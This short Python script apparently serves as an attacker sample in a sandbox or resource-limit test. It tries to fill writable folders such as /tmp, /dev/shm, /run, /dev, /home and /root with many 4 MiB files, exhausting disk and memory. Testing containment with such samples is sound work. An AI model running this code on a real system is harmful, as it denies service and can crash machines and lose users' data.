"""Fills every folder in memory that it can write to, in files of the allowed size."""

import os

from attacker import tried

places = ["/tmp", "/dev/shm", "/var/tmp", "/run", "/dev", "/home", "/root", "."]
tried(places)
block = bytes(1 << 20)
for folder in places:
    for number in range(120):
        try:
            with open(os.path.join(folder, f"fill{number}"), "wb") as file:
                for _ in range(4):
                    file.write(block)
        except OSError:
            break
